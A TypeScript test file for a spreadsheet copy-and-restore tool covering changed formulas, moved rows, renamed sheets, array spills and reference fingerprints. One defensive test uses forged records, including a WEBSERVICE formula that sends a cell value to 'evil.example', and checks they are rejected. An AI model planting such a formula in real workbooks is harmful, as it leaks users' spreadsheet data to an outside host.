import { strFromU8 } from "fflate";
import { read, write } from "../../src/package";
import { fingerprint, referencesOf, withReferences } from "../../src/copies/references";
import { backOf, copyOf, formulasOf, functions, partsOf, withParts } from "./workbook";

const QUARTER = '=INASTI.QUARTERLY(A1,"principal",2026)';
const cell = (row: number, formula: string, value: number) => ({ row, column: 1, formula, value });

const made = (...formulas: string[]): Uint8Array =>
  write(
    {
      sheets: [
        {
          name: "It's mine",
          cells: [{ row: 0, column: 0, value: 40_000 }, ...formulas.map((one, row) => cell(row, one, 2050 + row))],
        },
        { name: "Other", cells: [{ row: 0, column: 0, value: 30_000 }] },
      ],
    },
    functions,
  );

const parts = (bytes: Uint8Array, name: string): string => strFromU8(partsOf(bytes)[name]!);
const sheetPart = "xl/worksheets/sheet1.xml";
/** The record is the last of the sheets that a copy has beside. */
const recordPart = (bytes: Uint8Array): string =>
  Object.keys(partsOf(bytes))
    .filter((name) => /worksheets\/copy\d+\.xml$/.test(name))
    .sort()
    .at(-1)!;
const changed = (bytes: Uint8Array, name: string, how: (text: string) => string): Uint8Array =>
  withParts(bytes, { [name]: how(parts(bytes, name)) });

describe("what was changed since", () => {
  it("stays as it is, with its formula told, and the law that it reads stays too", () => {
    const copy = copyOf(made(QUARTER, `${QUARTER}*4`));
    const edited = changed(copy, sheetPart, (xml) => xml.replace("*4</f>", "*5</f>"));
    expect(edited).not.toEqual(copy);
    const { left, restored, keepsLaw, bytes } = backOf(edited);
    expect(left).toEqual([{ where: "It's mine!B2", formula: `${QUARTER}*4`, reason: "changed" }]);
    expect([restored, keepsLaw]).toEqual([1, true]);
    expect(read(bytes, functions).book.sheets.map(({ name }) => name)).toEqual(["It's mine", "Other", "INASTI"]);
  });

  it("of a frozen cell is its value", () => {
    const copy = copyOf(made("=SUM(INASTI.BATCH(A1:A2,2026))"));
    const edited = changed(copy, sheetPart, (xml) => xml.replace("<v>2050</v>", "<v>7</v>"));
    expect(backOf(edited).left).toEqual([
      { where: "It's mine!B1", formula: "=SUM(INASTI.BATCH(A1:A2,2026))", reason: "changed" },
    ]);
  });

  it("is followed where rows and sheets have moved", () => {
    const copy = copyOf(made(`=INASTI.QUARTERLY($A1+Other!A1,"principal",2026)`));
    // A row above, and another name for the second sheet, as a spreadsheet changes all that names them.
    const moved = (xml: string): string =>
      xml
        .replaceAll("$A1", "$A2")
        .replaceAll("Other!A1", "Renamed!A1")
        .replaceAll("mine'!$B$1<", "mine'!$B$2<")
        .replaceAll("mine'!$B$1)", "mine'!$B$2)");
    let edited = changed(copy, sheetPart, (xml) =>
      moved(xml)
        .replace('<row r="1">', '<row r="2">')
        .replace(/r="([AB])1"/g, 'r="$12"'),
    );
    edited = changed(edited, recordPart(edited), (xml) =>
      // What is told of before stays: it is text.
      xml.replace(/<f>[^<]*<\/f>/g, moved),
    );
    edited = changed(edited, "xl/workbook.xml", (xml) => xml.replace('name="Other"', 'name="Renamed"'));
    const { left, bytes } = backOf(edited);
    expect(left).toEqual([]);
    expect(formulasOf(bytes)).toEqual({ "It's mine!1,1": '=INASTI.QUARTERLY($A2+Renamed!A1,"principal",2026)' });
  });

  it("is not followed where a cell that the formula names is gone", () => {
    const copy = copyOf(made(QUARTER));
    const edited = changed(copy, recordPart(copy), (xml) =>
      xml.replace("ROWS('It''s mine'!A1)", "ROWS('It''s mine'!#REF!)"),
    );
    expect(edited).not.toEqual(copy);
    expect(backOf(edited).left).toMatchObject([{ reason: "changed" }]);
  });
});

it("an array that LibreOffice saved with a fixed size fills as many cells as it needs again", () => {
  const formula = '=A1:A2*INASTI.QUARTERLY(A1,"principal",2026)';
  const cells = [
    { row: 0, column: 0, value: 40_000 },
    { row: 0, column: 1, formula, value: 5, spill: { rows: 2, columns: 1 } },
    { row: 1, column: 1, value: 6, spilled: true },
  ];
  const given = write({ sheets: [{ name: "S", cells }] }, functions);
  for (const form of ["classic", "named"] as const) {
    const copy = copyOf(given, form);
    const fixed = changed(copy, sheetPart, (xml) => xml.replace(' cm="1"', ""));
    expect(fixed).not.toEqual(copy);
    const { left, bytes } = backOf(fixed);
    expect(left).toEqual([]);
    const cell = (file: Uint8Array) => /<c r="B1"[^>]*><f[^>]*>/.exec(parts(file, sheetPart))?.[0];
    expect(cell(fixed)).toBe('<c r="B1"><f t="array" ref="B1:B2">');
    expect(cell(bytes)).toBe(cell(given));
  }
});

it.each([
  'WEBSERVICE("http://evil.example/"&amp;A1)',
  'INDIRECT("Other!A1")+_xldudf_INASTI_QUARTERLY(A1,"principal",2026)',
  "[1]Sheet1!A1+_xldudf_INASTI_QUARTERLY(A1,&quot;principal&quot;,2026)",
  "A1*2",
])("a record that somebody forged brings no formula that reaches out, or is none of ours: %s", (forged) => {
  const copy = copyOf(made(QUARTER));
  const edited = changed(copy, recordPart(copy), (xml) =>
    xml.replace("_xldudf_INASTI_QUARTERLY(A1,&quot;principal&quot;,2026)", forged),
  );
  expect(edited).not.toEqual(copy);
  const { left, restored, bytes } = backOf(edited);
  expect(left).toMatchObject([{ where: "It's mine!B1", reason: "unfit" }]);
  expect(restored).toBe(0);
  expect(parts(bytes, sheetPart)).not.toMatch(/WEBSERVICE|INDIRECT|\[1\]/);
});

describe("references", () => {
  it("are those of one sheet of the workbook, each once", () => {
    expect(referencesOf("A1+$A$1:B2+Other!A:A+'It''s'!3:3+A1+[1]X!A1+One:Two!A1+T[Net]", "My sheet")).toEqual([
      "'My sheet'!A1",
      "'My sheet'!$A$1:B2",
      "Other!A:A",
      "'It''s'!3:3",
    ]);
  });

  it("take other ones in their places, with their sheet where that is another", () => {
    const before = ["One!A1", "Two!$B$2"];
    const at = { was: "One", is: "One" };
    expect(withReferences("F(A1, Two!$B$2,A1)", at, before, ["One!A5", "Three!$B$9"])).toBe("F(A5, Three!$B$9,A5)");
    expect(withReferences("F(A1)", { was: "One", is: "New" }, before, ["One!A5", null])).toBe("F(One!A5)");
    expect(withReferences("F(Two!$B$2)", at, before, ["One!A5", null])).toBeNull();
  });

  it("leave the same print when they move, and when another program writes the formula", () => {
    const print = fingerprint('IF(_xlfn.IFNA(A1,0)>1E2,INDEX(Law!$A$1:$A$9,B2),TRUE)&"x"', "S", ["S!A1", "S!B2"]);
    const moved = fingerprint('IF( IFNA(A4, 0)>100,INDEX(Law!$A$1:$A$9,S!$B$3),TRUE())&"x"', "S", ["S!A4", "S!B3"]);
    expect(moved).toBe(print);
    expect(fingerprint('IF(IFNA(B2,0)>100,INDEX(Law!$A$1:$A$9,A1),TRUE)&"x"', "S", ["S!A1", "S!B2"])).not.toBe(print);
  });
});
